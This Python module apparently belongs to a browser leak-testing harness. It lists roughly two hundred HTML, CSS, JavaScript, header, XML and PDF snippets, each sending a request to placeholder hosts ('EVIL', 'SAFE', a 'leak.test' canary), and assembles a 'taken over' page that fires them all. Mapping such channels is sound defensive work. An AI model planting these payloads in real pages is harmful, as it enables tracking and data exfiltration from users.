"""The ways by which a page can send something to another server, each under a name of its own.

`EVIL/name` is the address at which the channel of that name arrives, `SAFE/name` the same with TLS.
`AT(name)` is a port of one channel alone, for those that connect or send datagrams and ask for no path.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass

from browser.sites import Served

# A domain whose names are the attacker's; a name in it carries what the page puts there.
LEAK = "leak.test"
# Parts of one page: what loads or asks by being there.
PARTS = {
    "image": '<img src="EVIL/image">',
    "srcset": '<img srcset="EVIL/srcset 1x">',
    "picture": '<picture><source srcset="EVIL/picture"><img></picture>',
    "input-image": '<input type="image" src="EVIL/input-image">',
    "cell-background": '<table background="EVIL/cell-background"><tr><td>.</table>',
    "script": '<script src="EVIL/script"></script>',
    "module": '<script type="module">import "EVIL/module"</script>',
    "import": '<script>import("EVIL/import").catch(() => 0)</script>',
    "import-json": '<script type="module">import "EVIL/import-json" with {type: "json"}</script>',
    "import-map": '<script type="importmap">{"imports": {"mapped": "EVIL/import-map"}}</script>'
    '<script type="module">import "mapped"</script>',
    "style": '<link rel="stylesheet" href="EVIL/style">',
    "style-import": '<style>@import url("EVIL/style-import");</style>',
    "background": '<p style="background: url(EVIL/background)">.</p>',
    "image-set": '<p style="background: image-set(url(EVIL/image-set) 1x)">.</p>',
    "border-image": '<p style="border: 1px solid; border-image: url(EVIL/border-image) 1">.</p>',
    "list-style": '<ul style="list-style: url(EVIL/list-style)"><li>.</ul>',
    "content": '<style>#c::before {content: url(EVIL/content)}</style><p id="c">.</p>',
    "cursor": '<p style="cursor: url(EVIL/cursor), auto">.</p>',
    "mask": '<p style="mask-image: url(EVIL/mask)">.</p>',
    "shape": '<p style="float: left; shape-outside: url(EVIL/shape)">.</p>',
    "css-filter": '<p style="filter: url(EVIL/css-filter#f)">.</p>',
    "clip-path": '<p style="clip-path: url(EVIL/clip-path#c)">.</p>',
    "cross-fade": '<p style="background: -webkit-cross-fade(url(EVIL/cross-fade), url(/none), 50%)">.</p>',
    "font": "<style>@font-face {font-family: f; src: url(EVIL/font)}</style>"
    '<p style="font-family: f">.</p>',
    "frame": '<iframe src="EVIL/frame"></iframe>',
    "object": '<object data="EVIL/object"></object>',
    "embed": '<embed src="EVIL/embed">',
    "video": '<video src="EVIL/video" preload="auto"></video>',
    "audio": '<audio src="EVIL/audio" preload="auto"></audio>',
    "poster": '<video poster="EVIL/poster"></video>',
    "track": '<video src="/none.mp4" crossorigin><track default src="EVIL/track"></video>'
    "<script>document.currentScript.previousElementSibling.textTracks[0].mode = 'showing'</script>",
    "svg-image": '<svg><image href="EVIL/svg-image"/></svg>',
    "svg-filter": '<svg><filter id="fi"><feImage href="EVIL/svg-filter"/></filter>'
    '<rect width="9" height="9" filter="url(#fi)"/></svg>',
    "svg-use": '<svg><use href="EVIL/svg-use#a"/></svg>',
    "svg-script": '<svg><script href="EVIL/svg-script"></script></svg>',
    "svg-animation": '<svg><image href="/none"><set attributeName="href" to="EVIL/svg-animation"/>'
    "</image></svg>",
    "preload": '<link rel="preload" as="fetch" href="EVIL/preload" crossorigin>',
    "preload-set": '<link rel="preload" as="image" imagesrcset="EVIL/preload-set 1x">',
    "modulepreload": '<link rel="modulepreload" href="EVIL/modulepreload">',
    "prefetch": '<link rel="prefetch" href="EVIL/prefetch">',
    "dictionary": '<link rel="compression-dictionary" href="EVIL/dictionary">',
    "speculation-prefetch": '<script type="speculationrules">{"prefetch": '
    '[{"urls": ["EVIL/speculation-prefetch"], "eagerness": "immediate"}]}</script>',
    "speculation-prerender": '<script type="speculationrules">{"prerender": '
    '[{"urls": ["EVIL/speculation-prerender"], "eagerness": "immediate"}]}</script>',
    "frame-srcdoc": '<iframe srcdoc="<img src=EVIL/frame-srcdoc>"></iframe>',
    "frame-data": '<iframe src="data:text/html,<img src=EVIL/frame-data>"></iframe>',
    "frame-script": "<iframe src=\"javascript:'<img src=EVIL/frame-script>'\"></iframe>",
    "attribution": '<img attributionsrc="EVIL/attribution">',
    "fenced-frame": "<fencedframe id=ff></fencedframe><script>try { ff.config = "
    'new FencedFrameConfig("EVIL/fenced-frame") } catch {}</script>',
    "portal": '<portal src="EVIL/portal"></portal>',
    "html-import": '<link rel="import" href="EVIL/html-import">',
    "web-bundle": '<script type="webbundle">{"source": "EVIL/web-bundle", "scopes": ["EVIL/b"]}'
    "</script>",
    # These two are asked for by headers of the page.
    "report": '<img src="/forbidden.png">',
    "header-speculation": "",
    "name": '<img src="NAMED/name">',
    "form-frame": '<iframe name="sink"></iframe><form id="f1" method="post" target="sink" '
    'action="EVIL/form-frame"><input name="a" value="b"></form><script>f1.submit()</script>',
    "form-blank": '<form id="f2" target="_blank" action="EVIL/form-blank"></form>'
    "<script>f2.submit()</script>",
    "form-button": '<iframe name="other"></iframe><form target="other"><button id="b1" formaction="EVIL/form-button"></button>'
    "</form><script>b1.click()</script>",
    "ping": '<a id="p1" href="#here" ping="EVIL/ping">.</a><script>p1.click()</script>',
    "link-blank": '<a id="l1" target="_blank" href="EVIL/link-blank">.</a><script>l1.click()</script>',
}
# What a script of that page asks for.
SCRIPTS = {
    "fetch": 'fetch("EVIL/fetch", {mode: "no-cors"})',
    "fetch-preflight": 'fetch("EVIL/fetch-preflight", {method: "PUT", body: "x"})',
    "fetch-keepalive": 'fetch("EVIL/fetch-keepalive", {mode: "no-cors", keepalive: true})',
    "fetch-redirect": 'fetch("/redirect/fetch-redirect", {mode: "no-cors"})',
    "fetch-later": 'fetchLater("EVIL/fetch-later", {activateAfter: 0})',
    "wasm": 'WebAssembly.instantiateStreaming(fetch("EVIL/wasm"))',
    "xhr": 'const x = new XMLHttpRequest(); x.open("POST", "EVIL/xhr"); x.send("a")',
    "xhr-sync": 'const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr-sync", false); x.send()',
    "events": 'new EventSource("EVIL/events")',
    "socket": 'new WebSocket("EVIL/socket".replace("http", "ws"))',
    "socket-stream": 'new WebSocketStream("EVIL/socket-stream".replace("http", "ws"))',
    "transport": 'new WebTransport("https://AT(transport)/")',
    "new-image": 'new Image().src = "EVIL/new-image"',
    "new-audio": 'new Audio("EVIL/new-audio").load()',
    "font-face": 'new FontFace("g", "url(EVIL/font-face)").load()',
    "window": 'window.open("EVIL/window")',
    "window-noopener": 'window.open("EVIL/window-noopener", "", "noopener")',
    "window-later": 'const w = window.open(""); w.location = "EVIL/window-later"',
    "worker-import": "new Worker(URL.createObjectURL(new Blob("
    "['importScripts(\"EVIL/worker-import\")'])))",
    "worker-fetch": "new Worker(URL.createObjectURL(new Blob("
    '[\'fetch("EVIL/worker-fetch", {mode: "no-cors"})\'])))',
    "worker-module": "new Worker(URL.createObjectURL(new Blob("
    "['import \"EVIL/worker-module\"'], {type: 'text/javascript'})), {type: 'module'})",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob("
    '[\'fetch("EVIL/shared-worker", {mode: "no-cors"})\'])))',
    "service-worker": 'navigator.serviceWorker.register("/script/service-worker")',
    "audio-worklet": 'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("EVIL/audio-worklet")',
    "paint-worklet": 'CSS.paintWorklet.addModule("EVIL/paint-worklet")',
    "shared-storage": 'sharedStorage.worklet.addModule("EVIL/shared-storage")',
    "interest-group": 'navigator.joinAdInterestGroup({owner: "EVIL", name: "a", lifetimeMs: 1e6, '
    'updateURL: "EVIL/interest-group", biddingLogicURL: "EVIL/interest-group"}, 9)',
    "identity": 'navigator.credentials.get({identity: {providers: [{configURL: "EVIL/identity", '
    'clientId: "1"}]}})',
    "payment": 'new PaymentRequest([{supportedMethods: "EVIL/payment"}], {total: {label: "a", '
    'amount: {currency: "EUR", value: "1"}}}).canMakePayment()',
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({artwork: "
    '[{src: "EVIL/media-session"}]})',
    "stun": 'call({urls: "stun:AT(stun)"})',
    "turn": 'call({urls: "turn:AT(turn)", username: "a", credential: "b"})',
    "turn-tcp": 'call({urls: "turn:AT(turn-tcp)?transport=tcp", username: "a", credential: "b"})',
    "turn-tls": 'call({urls: "turns:AT(turn-tls)?transport=tcp", username: "a", credential: "b"})',
}
# Documents of their own, shown in frames of that page.
DOCUMENTS = {
    "frame-location": '<script>location = "EVIL/frame-location"</script>',
    "frame-meta": '<meta http-equiv="refresh" content="0; url=EVIL/frame-meta">',
    "frame-link": '<a id="a" href="EVIL/frame-link">.</a><script>a.click()</script>',
    "link-download": '<a id="a" download href="EVIL/link-download">.</a><script>a.click()</script>',
    "unload": '<script>onpagehide = () => navigator.sendBeacon("EVIL/unload", "x");'
    "onload = () => setTimeout(() => frameElement.remove(), 50)</script>",
    "beacon": '<script>navigator.sendBeacon("EVIL/beacon", "x")</script>',
    "base": '<base href="EVIL/"><img src="base">',
    "svg-document": Served(
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL/svg-document"/></svg>',
        "image/svg+xml",
    ),
    "xml-style": Served(
        '<?xml version="1.0"?><?xml-stylesheet type="text/css" href="EVIL/xml-style"?><a/>',
        "text/xml",
    ),
    "xslt": Served(
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/script/xslt"?><a/>',
        "text/xml",
    ),
    "entity": Served(
        '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "EVIL/entity">]><a>&b;</a>', "text/xml"
    ),
    "multipart": Served(
        "--x\r\nContent-Type: text/html\r\n\r\n<img src=EVIL/multipart>\r\n--x--\r\n",
        "multipart/x-mixed-replace; boundary=x",
    ),
    "pdf": Served(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(EVIL/pdf)>>>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
        "application/pdf",
    ),
    "frame-redirect": Served(status=307, headers={"Location": "EVIL/frame-redirect"}),
    "frame-refresh": Served(".", headers={"Refresh": "0; url=EVIL/frame-refresh"}),
    "download": Served(status=302, headers={"Location": "EVIL/download"}),
    "header-preload": Served(".", headers={"Link": "<EVIL/header-preload>; rel=preload; as=image"}),
    "header-prefetch": Served(".", headers={"Link": "<EVIL/header-prefetch>; rel=prefetch"}),
    "header-module": Served(".", headers={"Link": "<EVIL/header-module>; rel=modulepreload"}),
    "header-dictionary": Served(
        ".", headers={"Link": "<EVIL/header-dictionary>; rel=compression-dictionary"}
    ),
    "header-style": Served(".", headers={"Link": "<EVIL/header-style>; rel=stylesheet"}),
}
# Pages of their own: what takes the whole page elsewhere, or belongs to a page and not to a frame.
PAGES = {
    "location": '<script>location.href = "EVIL/location"</script>',
    "replace": '<script>location.replace("EVIL/replace")</script>',
    "navigation": '<script>navigation.navigate("EVIL/navigation")</script>',
    "script-link": '<a id="a" href="javascript:location=\'EVIL/script-link\'">.</a>'
    "<script>a.click()</script>",
    "link": '<a id="a" href="EVIL/link">.</a><script>a.click()</script>',
    "svg-link": '<svg><a id="a" href="EVIL/svg-link">.</a></svg><script>'
    "a.dispatchEvent(new MouseEvent('click'))</script>",
    "area": '<map><area id="a" href="EVIL/area"></map><script>a.click()</script>',
    "top-link": "<iframe srcdoc=\"<a id=a target=_top href='EVIL/top-link'>.</a>"
    '<script>a.click()</script>"></iframe>',
    "meta": '<meta http-equiv="refresh" content="0; url=EVIL/meta">',
    "get-form": '<form id="f" action="EVIL/get-form"><input name="a" value="b"></form>'
    "<script>f.submit()</script>",
    "post-form": '<form id="f" method="post" action="EVIL/post-form"><input name="a" value="b">'
    "</form><script>f.submit()</script>",
    "later": '<script>setTimeout(() => location = "/redirect/later", 10)</script>',
    "frameset": Served('<frameset><frame src="EVIL/frameset"></frameset>'),
    "icon": Served('<link rel="icon" href="EVIL/icon">'),
    "manifest": Served('<link rel="manifest" href="EVIL/manifest">'),
    "preconnect": Served('<link rel="preconnect" href="http://AT(preconnect)">'),
    "prerender": Served('<link rel="prerender" href="EVIL/prerender">'),
    "header-preconnect": Served(
        ".", headers={"Link": "<http://AT(header-preconnect)>; rel=preconnect"}
    ),
    "refresh": Served(".", headers={"Refresh": "0; url=EVIL/refresh"}),
    **{
        f"status-{status}": Served(status=status, headers={"Location": f"EVIL/status-{status}"})
        for status in (301, 302, 303, 307, 308)
    },
}
# An origin has one list of these: whoever sets it last, sets it for all its documents.
_GROUPS = (
    '{"group": "g", "max_age": 99, "endpoints": [{"url": "SAFE/report-group"}]}, '
    '{"group": "n", "max_age": 99, "endpoints": [{"url": "SAFE/error-log"}]}'
)
# Documents of a site that speaks TLS, shown in frames; they aim at a server that does so too.
SECURE = {
    "report-to": Served(
        '<img src="/forbidden.png">',
        headers={
            "Reporting-Endpoints": 'r="SAFE/report-to"',
            "Content-Security-Policy-Report-Only": "img-src 'none'; report-to r",
        },
    ),
    "report-group": Served(
        '<img src="/forbidden.png">',
        headers={
            "Report-To": _GROUPS,
            "Content-Security-Policy-Report-Only": "img-src 'none'; report-to g",
        },
    ),
    "error-log": Served(
        ".",
        headers={
            "Report-To": _GROUPS,
            "NEL": '{"report_to": "n", "max_age": 99, "success_fraction": 1.0}',
        },
    ),
    "quic": Served(
        '<script>setInterval(() => fetch("/none"), 200)</script>',
        headers={"Alt-Svc": 'h3="AT(quic)"; ma=99'},
    ),
}
# Hints that a site with HTTP/2 sends before its page (103), which is a window of its own.
EARLY = {
    "early-preload": "<SAFE/early-preload>; rel=preload; as=image",
    "early-style": "<SAFE/early-style>; rel=preload; as=style",
    "early-module": "<SAFE/early-module>; rel=modulepreload",
    "early-preconnect": "<https://AT(early-preconnect)>; rel=preconnect",
}
# What that page does: it asks another origin for which its own connection would do, and follows a
# frame that names another way to itself.
HTTP2 = {
    "coalesced": '<script>fetch("https://127.0.0.1:PORT/coalesced").catch(() => 0)</script>',
    "other-way": '<script>setInterval(() => fetch("/none"), 200)</script>',
}
OTHER_WAY = 'h3="AT(other-way)"'
# Scripts and data that the site itself serves for the above.
OWN = {
    "xslt": Served(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:import href="EVIL/xslt"/><xsl:template match="/">'
        "<xsl:value-of select=\"document('EVIL/xslt')\"/></xsl:template></xsl:stylesheet>",
        "text/xml",
    ),
    "service-worker": Served(
        'fetch("EVIL/service-worker", {mode: "no-cors"}).catch(() => 0)', "text/javascript"
    ),
    "header-speculation": Served(
        '{"prefetch": [{"urls": ["EVIL/header-speculation"], "eagerness": "immediate"}]}',
        "application/speculationrules+json",
    ),
}
CHANNELS = frozenset({*PARTS, *SCRIPTS, *DOCUMENTS, *PAGES, *SECURE, *EARLY, *HTTP2})
# What the control shows that Chromium 156 does not send, or no longer.
NOT_OFFERED = frozenset(
    "attribution css-filter entity fenced-frame header-style html-import interest-group media-session multipart "
    "pdf portal prerender shared-storage svg-use xslt".split()
)
_CALL = """
function call(server) {
  const made = new RTCPeerConnection({iceServers: [server]});
  made.createDataChannel("x");
  made.createOffer().then((offer) => made.setLocalDescription(offer));
}
"""


@dataclass(frozen=True, slots=True)
class Target:
    """Where the channels arrive: a server, the same with TLS, and ports by channel."""

    evil: str
    safe: str
    ports: Mapping[str, str]

    def fill(self, text: str) -> str:
        """A text with its targets in place."""
        named = self.evil.replace("127.0.0.1", f"canary.{LEAK}")
        text = re.sub(r"AT\(([\w-]+)\)", lambda found: self.ports[found[1]], text)
        return text.replace("EVIL", self.evil).replace("SAFE", self.safe).replace("NAMED", named)

    def fill_page(self, page: Served | str) -> Served:
        """A page with its targets in place."""
        found = Served(f"<body>{page}") if isinstance(page, str) else page
        headers = {name: self.fill(value) for name, value in found.headers.items()}
        return Served(self.fill(str(found.body)), found.kind, found.status, headers)


def list_ports() -> tuple[str, ...]:
    """The channels that arrive at a port of their own."""
    pages = [*DOCUMENTS.values(), *PAGES.values(), *SECURE.values()]
    early = [*EARLY.values(), OTHER_WAY]
    text = "".join([*PARTS.values(), *SCRIPTS.values(), *early, *map(str, pages)])
    return tuple(dict.fromkeys(re.findall(r"AT\(([\w-]+)\)", text)))


def build_pages(target: Target, secure_home: str, http2_home: str) -> dict[str, Served | str]:
    """The pages of a site that was taken over; `/all` uses every channel."""
    scripts = [
        f"<script>(async () => {{ {each} }})().catch(() => 0)</script>" for each in SCRIPTS.values()
    ]
    frames = [f'<iframe src="/document/{name}"></iframe>' for name in DOCUMENTS]
    frames += [f'<iframe src="{secure_home}/document/{name}"></iframe>' for name in SECURE]
    windows = [f'<script>window.open("/page/{name}")</script>' for name in PAGES]
    windows.append(f'<script>window.open("{http2_home}/")</script>')
    page = Served(
        f"<body>{''.join(PARTS.values())}<script>{_CALL}</script>{''.join(scripts + frames + windows)}",
        headers={
            "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri EVIL/report",
            "Speculation-Rules": '"/script/header-speculation"',
        },
    )
    pages: dict[str, Served | str] = {"/all": target.fill_page(page)}
    for folder, found in (("document", DOCUMENTS), ("page", PAGES), ("script", OWN)):
        pages |= {f"/{folder}/{name}": target.fill_page(each) for name, each in found.items()}
    for name in ("fetch-redirect", "later"):
        redirect = Served(status=307, headers={"Location": f"{target.evil}/{name}"})
        pages[f"/redirect/{name}"] = redirect
    return pages


def build_secure_pages(target: Target) -> dict[str, Served | str]:
    """The pages of that site which are served with TLS."""
    return {f"/document/{name}": target.fill_page(each) for name, each in SECURE.items()}
